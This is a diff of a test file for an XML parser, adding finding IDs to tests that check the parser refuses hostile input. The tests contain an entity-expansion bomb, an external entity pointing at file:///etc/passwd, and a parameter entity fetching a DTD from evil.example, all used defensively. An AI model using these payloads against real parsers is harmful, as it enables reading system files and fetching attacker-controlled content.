@@ -170,13 +170,13 @@ describe('a document that is refused', () => {
     expect(await failureOf(text)).toContain(expected);
   });
 
-  it('has entities of its own (entity bombs)', async () => {
+  it('has entities of its own (entity bombs) (F107)', async () => {
     const bomb = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>`;
     expect(await failureOf(bomb)).toBe('not-xml: the document declares entities of its own');
     expect(await failureOf(bomb, { isForgiving: true })).toBe('not-xml: the document declares entities of its own');
   });
 
-  it('points to entities outside, which nobody fetches', async () => {
+  it('points to entities outside, which nobody fetches (F107, F109)', async () => {
     const outside = `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`;
     expect(await failureOf(outside)).toBe('not-xml: the document declares entities of its own');
     const parameter = `<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><a/>`;
